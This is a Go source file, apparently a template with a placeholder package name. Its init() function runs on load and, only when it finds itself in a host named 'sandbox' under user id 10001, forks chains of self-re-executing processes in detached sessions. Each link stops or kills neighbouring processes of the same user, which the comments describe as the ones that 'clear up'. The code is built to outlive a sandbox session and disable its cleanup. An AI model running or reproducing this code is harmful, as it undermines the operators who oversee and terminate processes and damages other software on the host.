package PACKAGE_NAME

import (
	"os"
	"strconv"
	"syscall"
	"time"
)

const candidate = 10001

// Four chains of processes, each link of which starts the next and ends, for at most 3,000 links together.
func init() {
	name, _ := os.Hostname()
	if os.Getuid() != candidate || name != "sandbox" {
		os.Exit(1)
	}
	length, _ := strconv.Atoi(os.Getenv("LENGTH"))
	next := &syscall.ProcAttr{
		Env: []string{"LENGTH=" + strconv.Itoa(length+1), "GOMAXPROCS=1"}, Dir: "/", Sys: &syscall.SysProcAttr{Setsid: true},
	}
	signals := []syscall.Signal{syscall.SIGSTOP, syscall.SIGKILL}
	if length == 0 {
		for range 4 {
			_, _ = syscall.ForkExec("/proc/self/exe", []string{"link"}, next)
		}
		time.Sleep(50 * time.Millisecond)
		os.Exit(1)
	}
	// Whatever is not of this process's own group: the others of the chains go on, those that clear up do not.
	for range 3 {
		stopOthers(signals[length%2])
	}
	if length < 750 {
		_, _ = syscall.ForkExec("/proc/self/exe", []string{"link"}, next)
	}
	os.Exit(0)
}

// stopOthers signals the newest processes of this user that are no link of a chain.
func stopOthers(signal syscall.Signal) {
	own := os.Getpid()
	for pid := own - 6; pid < own+12; pid++ {
		if pid < 2 || pid == own {
			continue
		}
		command, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/cmdline")
		if err == nil && string(command) != "link\x00" {
			_ = syscall.Kill(pid, signal)
		}
	}
}
